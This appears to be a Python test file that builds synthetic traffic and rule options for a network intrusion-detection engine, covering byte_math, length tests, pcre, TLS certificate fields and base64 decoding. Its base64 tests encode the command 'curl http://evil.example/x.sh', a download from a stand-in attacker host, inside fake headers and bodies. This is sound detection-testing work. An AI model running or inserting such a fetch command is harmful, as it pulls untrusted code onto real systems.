# SPDX-License-Identifier: GPL-2.0-or-later
"""Forms that the public rules are written in, and that the other families do not have: byte_math, numbers without a
length, expressions that count from the start of their buffer, older names of buffers."""
import struct

import f_names
from family import Family, answer, http

f = Family("math", "alert udp any any -> any any", proto="udp", dport=9)
for n, text in (("one", b"\1\2\3\4abcdefghij"), ("ten", b"\x0a\x00\x00\x05abcdefghijkl"), ("high", b"\xff\xff\xff\xff" * 4), ("zero", bytes(16)),
                ("digits", b"12ab34cd0x1f"), ("minus", b"-5   7ab"), ("short", b"\7"), ("text", b"len=008;abcdefgh"), ("wide", struct.pack("<Q", 1 << 40) + b"xyz")):
    f.flow(n, text)
for oper, by in (("+", 1), ("-", 1), ("*", 3), ("/", 2), ("<<", 2), (">>", 1), ("-", 200), ("<<", 70), (">>", 70), ("+", 4294967295)):
    f.ask("byte_math:bytes 1, offset 0, oper %s, rvalue %d, result r; isdataat:r;" % (oper, by),
          "byte_math:bytes 1, offset 0, oper %s, rvalue %d, result r; byte_test:1,<,r,0;" % (oper, by),
          "byte_math:bytes 2, offset 1, oper %s, rvalue %d, result r, endian little; byte_test:2,<,r,0;" % (oper, by))
f.ask('content:"ab"; byte_math:bytes 1, offset 0, oper -, rvalue 90, result r, relative; content:"g"; distance:0; within:r;',
      'byte_math:bytes 2, offset 0, oper +, rvalue 1, result r, string dec; isdataat:r;',
      'byte_math:bytes 2, offset 0, oper *, rvalue 2, result r, string hex; isdataat:!r;',
      'content:"len="; byte_math:bytes 3, offset 0, oper +, rvalue 1, result r, string dec, relative; content:"h"; distance:r; within:1;',
      'content:"len="; byte_math:bytes 3, offset 0, oper +, rvalue 0, result r, relative, string dec; isdataat:r,relative;',
      'byte_math:bytes 1, offset 0, oper +, rvalue 1, result r, bitmask 0x0f; isdataat:r;',
      'byte_math:bytes 2, offset 0, oper +, rvalue 0, result r, bitmask 0xf0; byte_test:1,=,r,0;',
      'byte_math:bytes 4, offset 0, oper /, rvalue 3, result r, endian big; byte_test:4,>,r,0;',
      'byte_extract:1,0,n; byte_math:bytes 1, offset 1, oper +, rvalue n, result r; byte_test:1,=,r,2;',
      'byte_extract:1,0,n; byte_math:bytes 1, offset 1, oper /, rvalue n, result r; isdataat:r;',
      'byte_math:bytes 1,offset 0,oper +,rvalue 1,result a; byte_math:bytes 1,offset 1,oper +,rvalue a,result b; isdataat:b;',
      'byte_math:bytes 1, offset -1, oper +, rvalue 1, result r; isdataat:r;',
      'byte_math:offset 0, bytes 1, rvalue 1, oper +, result r; isdataat:r;', 'byte_math:bytes 1, offset 0, oper +, rvalue 1; isdataat:1;',
      'byte_math:bytes 1, offset 0, oper %, rvalue 1, result r; isdataat:r;',
      'byte_math:bytes 1, offset 0, oper /, rvalue 0, result r; isdataat:r;',
      'byte_math:bytes 9, offset 0, oper +, rvalue 1, result r; isdataat:r;',
      'byte_math:bytes 1, offset 0, oper +, rvalue q, result r; isdataat:r;',
      'byte_math:bytes 1, offset 40, oper +, rvalue 1, result r; isdataat:!100;',
      'content:"abc"; offset:4; byte_math:bytes 1, offset -7, oper +, rvalue 6, result r, relative; content:"g"; offset:r;')

f = Family("lengths", "alert http any any -> any any", dport=80)
f.flow("none", http(), ("s", answer(b"")))
for n, size in (("five", 5), ("hundred", 100), ("thousand", 1000)):
    f.flow(n, http(b"POST", b"/a?id=%d" % size, body=b"x" * size), ("s", answer(b"y" * (size + 1))))
f.flow("zero", http(b"POST", b"/a?id=0", headers=b"Content-Length: 0\r\n"), ("s", answer(b"")))
f.flow("odd", http(b"POST", b"/a?id=x", headers=b"Content-Length: +7\r\n", body=b"1234567"), ("s", answer(b"")))
for how in (">", ">=", "<", "=", "!="):
    f.ask("flow:to_server; http.content_len; byte_test:0,%s,100,0,string,dec;" % how,
          "flow:to_client; http.content_len; byte_test:0,%s,101,0,string,dec;" % how,
          'http.uri; content:"id="; byte_test:0,%s,5,0,relative,string,dec;' % how,
          'http.uri; content:"id="; byte_test:3,%s,5,0,relative,string,dec;' % how)
f.ask("flow:to_server; http.content_len; byte_test:0,>,10,1,string,dec;", "flow:to_server; http.content_len; byte_test:0,>,4,0,string,hex;",
      "flow:to_server; http.content_len; byte_test:0,>,4,0,string;", "flow:to_server; http.content_len; byte_test:0,>,4,0;",
      'http.uri; content:"id="; byte_jump:0,0,relative,string,dec;')

f = Family("first", "alert http any any -> any any", dport=80)
f.flow("plain", http(uri=b"/index.php?x=1", headers=b"User-Agent: xaby\r\n"), ("s", answer(b"xaby")))
f.flow("later", http(uri=b"/a/index.php", headers=b"User-Agent: abyx\r\n"), ("s", answer(b"abyx")))
f.flow("other", http(uri=b"/", headers=b"User-Agent: none\r\n"), ("s", answer(b"none")))
f.flow("body", http(b"POST", b"/p", body=b"xaby&index=1"), ("s", answer(b"index")))
for buffer in ("http.uri", "http.user_agent", "http.request_body", "file.data", "http.header"):
    f.ask('%s; pcre:"/x/R";' % buffer, '%s; pcre:"/^x/R";' % buffer, '%s; pcre:"/^.{2}n/R";' % buffer, '%s; pcre:!"/x/R";' % buffer,
          '%s; pcre:"/index|ab/R"; content:"y"; within:1;' % buffer, '%s; pcre:"/^x/R"; content:"ab"; distance:0; within:2;' % buffer)
f.ask('content:"index"; http.uri; pcre:"/^.index/R";', 'content:"GET"; pcre:"/^.*?index/R";', 'pcre:"/GET/R";', 'pcre:"/x/RU";', 'http.uri; content:"n"; pcre:"/d/R"; pcre:"/^e/R";')

f = Family("older", "alert tls any any -> any any", dport=443)
f.flow("good", f_names.client_hello(b"shop.example"), ("s", f_names.server_hello(f_names.GOOD)), f_names.finish())
f.flow("evil", f_names.client_hello(b"www.evil.example"), ("s", f_names.server_hello(f_names.EVIL)), f_names.finish())
f.flow("chain", f_names.client_hello(b"www.evil.example"), ("s", f_names.server_hello(f_names.EVIL, f_names.GOOD)), f_names.finish())
f.flow("bare", f_names.client_hello(b"www.evil.example"))
f.ask('tls.subject:"CN=evil.example";', 'tls.subject:"cn=evil";', 'tls.subject:"evil";', 'tls.subject:!"evil";', 'tls.subject:"Shop";',
      'tls.issuerdn:"CN=Evil CA";', 'tls.issuerdn:"Root";', 'tls.issuerdn:!"Root";', 'tls.subject:"evil"; tls.issuerdn:"Evil";',
      'tls.subject:"evil"; tls.issuerdn:"Root";', 'tls.subject:"evil"; content:"|16 03|";', 'tls.subject:"CN=";', 'tls.sni; content:"shop"; tls.subject:"Shop";')

import base64  # noqa: E402

f = Family("base64", "alert udp any any -> any any", proto="udp", dport=9)
TEXT = b"curl http://evil.example/x.sh"
CODED = base64.b64encode(TEXT)
for n, text in (("bare", CODED), ("after", b"Basic " + CODED), ("behind", b"Basic " + CODED + b" HTTP/1.1"), ("line", b"Basic " + CODED[:20] + b"\r\n" + CODED[20:]),
                ("cut", b"Basic " + CODED[:-3]), ("padded", b"Basic " + base64.b64encode(b"curl") + b"rest"), ("double", b"Basic " + base64.b64encode(CODED)),
                ("url", b"Basic " + base64.urlsafe_b64encode(b"curl\xfb\xff\xfe?>")), ("plus", b"Basic " + base64.b64encode(b"curl\xfb\xff\xfe?>")),
                ("none", b"Basic "), ("odd", b"Basic !!!!"), ("twice", b"Basic AAAA Basic " + CODED), ("inner", b"Basic Y3=ybA=="), ("short", b"Basic Y3"), ("one", b"Basic Y"),
                ("nul", b"Basic " + CODED[:8] + b"\0" + CODED[8:])):
    f.flow(n, text)
for how in ("", ":relative", ":bytes 8,relative", ":bytes 7, relative", ":bytes 5,relative", ":offset 6", ":bytes 8, offset 6", ":offset 4, relative", ":offset 200,relative", ":bytes 2,relative"):
    f.ask('content:"Basic "; base64_decode%s; base64_data; content:"curl";' % how, 'content:"Basic "; base64_decode%s; base64_data; content:!"evil";' % how)
f.ask('base64_decode; base64_data; content:"curl"; startswith;', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; content:"evil"; distance:0; content:".sh"; endswith;',
      'content:"Basic "; base64_decode:relative; base64_data; content:"CURL"; nocase; depth:4;', 'content:"Basic "; base64_decode:relative; base64_data; content:"evil"; offset:4; isdataat:5,relative;',
      'content:"Basic "; base64_decode:relative; base64_data; pcre:"/^curl\\s+http/";', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; pcre:"/^\\shttp/R";',
      'content:"Basic "; base64_decode:relative; base64_data; isdataat:20;', 'content:"Basic "; base64_decode:relative; base64_data; byte_test:1,=,99,0;',
      'content:"Basic "; base64_decode:relative; content:"HTTP"; base64_data; content:"curl";', 'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; pkt_data; content:"HTTP";',
      'content:"Basic "; base64_decode:relative; base64_data; content:"curl"; pkt_data; content:"Q"; startswith;',
      'content:"asic"; content:"|20|"; distance:0; base64_decode:relative; base64_data; content:"evil";', 'content:"B"; base64_decode:offset 5,relative; base64_data; content:"|fb ff fe|";',
      'base64_data; content:"a";', 'base64_decode:bytes 0; base64_data; content:"a";', 'base64_decode:bogus; base64_data; content:"a";', 'base64_decode:bytes 70000; base64_data; content:"a";',
      'base64_decode:offset -1; base64_data; content:"a";', 'content:"Basic "; base64_decode:relative; base64_data; content:"|00|";')

f = Family("base64_http", "alert http any any -> any any", dport=80)
f.flow("head", http(uri=b"/a?q=" + CODED, headers=b"Authorization: Basic " + CODED + b"\r\n"), ("s", answer(b"key=" + CODED)))
f.flow("body", http(b"POST", b"/a", body=b"q=" + CODED + b"&r=1"), ("s", answer()))
f.flow("other", http(uri=b"/a?q=none"), ("s", answer()))
f.ask('http.uri; content:"q="; base64_decode:relative; base64_data; content:"evil";', 'http.header; content:"Basic|20|"; base64_decode:relative; base64_data; content:"evil";',
      'http.request_body; content:"q="; base64_decode:relative; base64_data; content:"evil"; http.method; content:"POST";',
      'http.request_body; content:"q="; base64_decode:bytes 4,relative; base64_data; content:"cur"; startswith; endswith;',
      'file.data; content:"key="; base64_decode:relative; base64_data; content:"evil";', 'http.request_body; base64_decode:offset 2; base64_data; content:"curl";',
      'http.uri; content:"q="; base64_decode:relative; base64_data; content:!"evil";', 'http.uri; content:"q="; base64_decode:bytes 8,relative; base64_data; content:"curl h"; bsize:6;')

f = Family("same", "alert tcp any any -> any any")
f.flow("same", b"abc", ("s", b"def"), client="192.0.2.80", server="192.0.2.80")
f.flow("other", b"abc", ("s", b"def"))
f.ask('content:"abc"; sameip;', 'content:"def"; sameip;', 'flow:to_server; content:"abc"; sameip;', 'sameip; content:!"abc"; dsize:>0;')
